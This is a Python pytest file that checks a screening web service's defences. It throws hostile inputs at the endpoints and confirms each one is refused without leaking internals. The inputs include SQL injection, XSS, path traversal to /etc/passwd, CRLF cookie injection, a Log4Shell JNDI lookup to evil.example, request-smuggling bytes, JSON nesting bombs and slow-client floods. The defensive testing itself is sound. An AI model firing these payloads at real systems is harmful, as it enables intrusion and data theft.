"""Hostile input is refused, told in the log, and nothing leaks."""

import json
import socket
import time
from collections.abc import Iterator

import httpx
import pytest

from command_line import run
from serving import Serving, loaded, served

EVIL = [
    "' OR 1=1 --",
    "Robert'); DROP TABLE journal;--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "x\r\nSet-Cookie: enjoin_session=stolen",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202egnp.exe",
    "a" * 4_000,
    "\x00",
    "𝒜" * 300,
]


@pytest.fixture(scope="module")
def serving(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    with served(loaded(tmp_path_factory.mktemp("hostile")), "--accept-stale") as serving:
        yield serving
        code, _, told = run(serving.home, "verify")
        assert code == 0, told


def harmless(answer: httpx.Response) -> None:
    """Check that an answer tells nothing of the inside and nothing runs in a browser."""
    assert answer.status_code < 500, answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert "unsafe" not in answer.headers["content-security-policy"]
    assert answer.headers["x-request-id"]
    assert "html" not in answer.headers.get("content-type", "")
    assert "set-cookie" not in answer.headers
    for word in ("Traceback", "site-packages", ".py", "sqlite", "root:", "msgspec", "litestar"):
        assert word not in answer.text
    if answer.status_code >= 400:
        assert answer.headers["content-type"].startswith("application/problem+json")
        assert answer.json()["detail"]


@pytest.mark.parametrize("text", EVIL)
def test_evil_text_is_only_text(serving: Serving, text: str) -> None:
    get, post = serving.client.get, serving.client.post
    person = {"schema": "Person", "properties": {"name": [text], text: [text]}}
    harmless(post("/match/default", json={"queries": {text: person}}))
    harmless(post("/api/v1/screen", json={"party": {"name": text[:1000], "schema": text}}))
    harmless(post("/api/v1/screen", json={"party": {"name": text[:1000]}, "lists": [text]}))
    harmless(post("/api/v1/read", json={"name": text, "text": text}))
    harmless(post("/reconcile/default", data={"queries": json.dumps({"q": {"query": text}})}))
    harmless(get("/search/default", params={"q": text[:500], "sort": text, "filter": text}))
    harmless(get("/search/default", params={"q": text[:500], "topics": text}))
    harmless(get("/api/v1/lists", params={"on": text}))
    harmless(get("/api/v1/measures", params={"target": text}))


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize(
    "path", ["/entities/", "/match/", "/search/", "/api/v1/jobs/", "/api/v1/entities/"]
)
def test_an_evil_path_leads_nowhere(serving: Serving, path: str, text: str) -> None:
    from urllib.parse import quote

    harmless(serving.client.get(path + quote(text, safe="")))


def test_an_evil_header_stays_out_of_the_answer(serving: Serving) -> None:
    for name in ("X-Request-ID", "X-Forwarded-For", "X-Forwarded-Host", "User-Agent"):
        answer = serving.client.get("/healthz", headers={name: "<evil>\t';--"})
        assert "evil" not in str(answer.headers) + answer.text
    assert (
        serving.client.get("/healthz", headers={"X-Request-ID": "abc-1"}).headers["x-request-id"]
        == "abc-1"
    )


def test_a_header_cannot_be_smuggled(serving: Serving) -> None:
    sent = (
        b"POST /match/default HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        b"GET /api/v1/lists HTTP/1.1\r\nHost: localhost\r\n\r\n"
    )
    assert serving.raw(sent).count(b"HTTP/1.1 200") == 0


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"{", 400),
        (b"[" * 100_000, 400),
        (b'{"queries":' * 50_000, 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":' + b"[" * 90_000, 400),
        (b'{"queries":{"q":' + b'{"a":' * 90_000, 400),
        (b'{"queries":{}}', 400),
        (b"\xff\xfe\x00", 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":["\\ud800"]}}}}', 400),
        (b'{"queries":' + b" " * 2_100_000 + b"{}}", 413),
        (b"null", 400),
        (b'{"queries":{"q":{"schema":"Person","properties":{"name":"NaN","x":[1e999]}}}}', 400),
    ],
)
def test_a_broken_body_is_refused(serving: Serving, body: bytes, status: int) -> None:
    headers = {"Content-Type": "application/json"}
    answer = serving.client.post("/match/default", content=body, headers=headers)
    harmless(answer)
    assert answer.status_code == status


def test_a_body_that_lies_about_its_length_is_refused(serving: Serving) -> None:
    def endless() -> Iterator[bytes]:
        for _ in range(60):
            yield b" " * 100_000

    try:
        answer = serving.client.post("/match/default", content=endless())
        assert answer.status_code == 413
    except httpx.TransportError:
        pass  # the service hung up, as it may


def test_too_many_at_once_are_refused(serving: Serving) -> None:
    person = {"schema": "Person", "properties": {"name": ["Tarvok Belinska"]}}
    queries = {str(n): person for n in range(501)}
    answer = serving.client.post("/match/default", json={"queries": queries})
    assert answer.status_code == 400
    assert "up to 500" in answer.json()["detail"]


def test_slow_clients_keep_nobody_waiting(serving: Serving) -> None:
    slow = [socket.create_connection(("127.0.0.1", serving.port)) for _ in range(200)]
    try:
        for number, connection in enumerate(slow):
            connection.sendall(b"POST /match/default HTTP/1.1\r\nHost: localhost\r\n")
            if number % 2:
                connection.sendall(b"Content-Length: 1000\r\n\r\n{")
        began = time.monotonic()
        for _ in range(20):
            assert serving.client.get("/readyz").status_code == 200
        assert time.monotonic() - began < 2
    finally:
        for connection in slow:
            connection.close()


def test_methods_that_are_not_there_are_told(serving: Serving) -> None:
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"):
        answer = serving.client.request(method, "/match/default")
        harmless(answer)
        assert answer.status_code in {404, 405}


def test_nothing_of_what_was_sent_is_in_the_log(serving: Serving) -> None:
    body = {"party": {"name": "Zebulon Quixwright"}}
    assert serving.client.post("/api/v1/screen", json=body).status_code == 200
    serving.client.get("/search/default", params={"q": "Zebulon Quixwright"})
    serving.client.get("/entities/Zebulon-Quixwright")
    time.sleep(0.2)
    lines = [json.loads(line) for line in serving.said if line.startswith("{")]
    assert {"at", "level", "event", "id", "route", "status", "ms", "who"} <= lines[-1].keys()
    assert "Quixwright" not in serving.log
